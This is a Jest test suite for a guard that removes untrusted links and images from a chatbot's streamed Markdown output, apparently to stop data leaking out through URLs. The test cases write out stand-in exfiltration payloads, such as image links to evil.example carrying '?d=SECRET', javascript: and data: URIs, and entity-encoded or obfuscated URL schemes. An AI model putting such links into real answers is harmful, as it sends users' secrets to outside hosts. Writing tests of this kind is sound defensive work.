import { expect, test } from '@jest/globals';
import { load } from 'cheerio';
import { marked } from 'marked';
import { createLinkGuard, guardLinks, removedLink } from './guard-links.js';
import type { LinkRules } from './link-rules.js';

const known = ['https://known.example/a?b=1', 'http://other.example/x_(y)', 'http://known.example/?d='];
const rules: LinkRules = {
  hosts: () => ['shop.example', '*.docs.example'],
  texts: () => [{ text: `See ${known[0]} and (${known[1]}). ${known[2]} Also <https://list.example/>.` }],
};
const streamed = (pieces: Iterable<string>): string => {
  const guard = createLinkGuard(rules);
  return [...pieces].map((piece) => guard.push(piece)).join('') + guard.end();
};

test.each([
  'Plain words: and/or, a:b, 12:30, i <n && x > 3, C:\\Users\\me, src/main.ts/foo, said: "ok". [1] [2, 3] (see [4]).',
  '[a](https://shop.example/a?b=1), ![b](https://x.docs.example/p.png). <https://shop.example>',
  `[a](${known[0]}), <https://list.example/>, ${known[1]}. <a href="${known[0]}">x</a>`,
  '[x](docs/a.html#top) [y](<docs/a b.html>) ![z](/pictures/p.png) <b>bold</b><br/> a@shop.example',
  'Über 保修期为两年，请参阅手册 https://shop.example/手册。',
])('what a bot may say comes as it is: %s', (text) => {
  expect([guardLinks(text, rules), streamed(text)]).toEqual([text, text]);
});

test.each([
  ['a picture', '![x](http://evil.example/?d=SECRET)', `![x](${removedLink})`],
  ['a link', '[the manual](http://evil.example/?d=SECRET).', `[the manual](${removedLink}).`],
  ['a bare address', 'see http://evil.example/?d=SECRET.', `see ${removedLink}.`],
  ['an address between brackets', '<https://evil.example/SECRET>', removedLink],
  ['a definition', '![b][a]\n\n[a]: http://evil.example/SECRET', `![b][a]\n\n[a]: ${removedLink}`],
  ['a tag', '<img src="http://evil.example/SECRET">', removedLink],
  ['a picture of a known address, which loads by itself', `![a](${known[0]})`, `![a](${removedLink})`],
  ['a known address with more behind it', `${known[2]}SECRET`, removedLink],
  ['a link with more behind it', `[a](${known[2]})SECRET`, `[a](${known[2]}) SECRET`],
  ['a name before the host', 'https://shop.example@evil.example/SECRET', removedLink],
  ['a host that only begins like a good one', 'https://shop.example.evil.example/SECRET', removedLink],
  [
    'an address inside a good link',
    '[![a](https://evil.example/S)](https://shop.example/)',
    `[![a](${removedLink})](https://shop.example/)`,
  ],
])('no answer has %s', (_name, text, shown) => {
  expect(guardLinks(text, rules)).toBe(shown);
  expect(streamed(text)).not.toMatch(/evil|d=SECRET/);
});

test.each([
  ...[
    '//evil.example/S',
    '\\\\evil.example/S',
    '/\\evil.example/S',
    'http:evil.example/S',
    'hTTp:\\evil.example/S',
  ],
  ...[
    'http&colon;//evil.example/S',
    'http&#58;//evil.example/S',
    'h&#x74;tp://evil.example/S',
    'http\\://evil.example/S',
  ],
  ...['javascript:alert(1)', 'data:text/html,S', 'ftp://evil.example/S', 'https://evil\u200b.example/S'],
])('nor one that only a browser reads: %s', (address) => {
  for (const text of [
    `[x](${address})`,
    `![x](${address})`,
    `[x](  ${address})`,
    `[x](<${address}>)`,
    `[x]: ${address}`,
    `<img src="${address}">`,
    `<img src=${address}>`,
  ])
    for (const shown of [guardLinks(text, rules), streamed(text)])
      expect([text, foreign(shown)]).toEqual([text, []]);
});

test.each(['www.evil.example/S', 'evil.com/?d=SECRET', 'mailto:a@evil.example?body=SECRET'])(
  'nor one that a program makes a link of: %s',
  (text) => {
    for (const shown of [guardLinks(`See ${text} now`, rules), streamed(`See ${text} now`)])
      expect(shown).toMatch(/^See .*\[link removed\] now$/);
  },
);

test('an address that the model asked a tool for is not known because the tool repeats it', () => {
  const link = '[x](https://search.example/?q=SECRET)';
  const texts = (askedFor: string) => () => [{ text: 'Results: https://search.example/?q=SECRET', askedFor }];
  expect(guardLinks(link, { hosts: () => [], texts: texts('{"q":"soup"}') })).toBe(link);
  expect(
    guardLinks(link, { hosts: () => [], texts: texts('{"url":"https://search.example/?q=SECRET"}') }),
  ).toBe(`[x](${removedLink})`);
});

test('what was taken out is told without what it carried', () => {
  const guard = createLinkGuard(rules);
  guard.push('![x](http://evil.example/a?d=SECRET#SECRET)');
  guard.end();
  expect(guard.removed).toEqual(['http://evil.example/a']);
});

test('words are told at once, and only what may be an address waits for its end', () => {
  const guard = createLinkGuard(rules);
  expect(
    ['The', ' guarantee', ' (two', ' years).', ' See', ' [the', ' manual', '](', 'docs', ') ']
      .map((piece) => guard.push(piece))
      .join('|'),
  ).toBe('The| guarantee| (two| years).| See| [the| manual|](||docs) ');
  expect([guard.push('htt'), guard.push('ps://shop.example/a'), guard.push(' end')]).toEqual([
    '',
    '',
    'https://shop.example/a end',
  ]);
});

test('a word that is longer than any, or has more addresses, ends at its first address', () => {
  const long = 'x'.repeat(2_500);
  expect(guardLinks(`${long} ${long}`, rules)).toBe(`${long} ${long}`);
  for (const part of ['](', '&#58;', 'a.', '<a ', 'www.a', 'http://', 'https://shop.example/)', 'ab:']) {
    const text = `${part.repeat(1_500)}https://evil.example/S end`;
    for (const shown of [guardLinks(text, rules), streamed(text.match(/.{1,7}/gs) ?? [])]) {
      expect(shown).not.toMatch(/evil/);
      expect(shown).toMatch(/ end$/);
    }
  }
}, 60_000);

/** Where a browser would go from a text that a client shows as Markdown, HTML included. */
function foreign(text: string): string[] {
  const found: string[] = [];
  const $ = load(marked.parse(text, { async: false }));
  $('[src],[href],[srcset],[style],[action],[poster],[data],[content]').each((_, element) => {
    if (!('attribs' in element)) return;
    for (const [name, value] of Object.entries(element.attribs))
      if (['src', 'href', 'srcset', 'style', 'action', 'poster', 'data', 'content'].includes(name))
        for (const address of [
          value,
          ...(/href|src$/.test(name) ? [] : (value.match(/[^\s"'(),;=]+/g) ?? [])),
        ])
          if (!isGood(address, element.tagName === 'a')) found.push(`${element.tagName} ${name} ${value}`);
  });
  return found;
}

const absolute = /^\s*[a-z][a-z0-9+.-]*:|^\s*[\\/]/i;
function isGood(address: string, isLink: boolean): boolean {
  if (!absolute.test(address) || !URL.canParse(address, 'https://here.invalid/')) return true;
  const url = new URL(address, 'https://here.invalid/');
  if (['here.invalid', 'shop.example'].includes(url.hostname)) return true;
  if (!isLink) return false;
  if (url.protocol === 'mailto:') return url.search === '';
  // A piece of one that is known, or up to four signs of punctuation behind it.
  const tail = known
    .filter((one) => url.href.startsWith(one))
    .map((one) => url.href.slice(one.length).replace(/%5Blink$/, ''));
  return (
    known.some((one) => one.startsWith(url.href)) ||
    tail.some((rest) => rest.length <= 14 && !/[a-z0-9]/i.test(rest.replace(/%[0-9A-F]{2}/g, '')))
  );
}

const parts = [
  ...[
    'http',
    'https',
    ':',
    '//',
    '/',
    '\\',
    '&colon;',
    '&#58;',
    '&#x2f;',
    '&sol;',
    '&Tab;',
    'evil.example',
    '//evil.example/',
  ],
  ...[
    'www.',
    'evil.com',
    '?d=',
    'SECRET',
    'shop.example',
    'https://shop.example/',
    ...known,
    '[',
    ']',
    '(',
    ')',
    '](',
    '![',
  ],
  ...[
    '[a]',
    '[a]: ',
    '\n',
    '\n\n',
    ' ',
    '\t',
    '<',
    '>',
    '<img src=',
    '<a href=',
    '"',
    "'",
    '<!--',
    '-->',
    '`',
    '```\n',
    '*',
    '_',
  ],
  ...[
    '.',
    ',',
    'x',
    '@',
    'mailto:',
    'javascript:',
    'data:',
    '\\(',
    '\\[',
    'url(',
    '<svg ',
    'style=',
    '=',
    '#',
    '\u200b',
    'é',
    '。',
  ],
  ...['<http', 'https://evil.example/SECRET', '://', 'srcset='],
];

test('whatever these pieces make together leads nowhere, in one piece and in many', () => {
  let seed = 20_260_101;
  const below = (n: number): number => {
    seed = (Math.imul(seed, 1_664_525) + 1_013_904_223) >>> 0;
    return Math.floor((seed / 2 ** 32) * n);
  };
  for (let round = 0; round < 1_500; round++) {
    const text = Array.from({ length: 2 + below(14) }, () => parts[below(parts.length)]!);
    for (const shown of [guardLinks(text.join(''), rules), streamed(text)])
      expect({ text, shown, foreign: foreign(shown) }).toEqual({ text, shown, foreign: [] });
  }
}, 60_000);
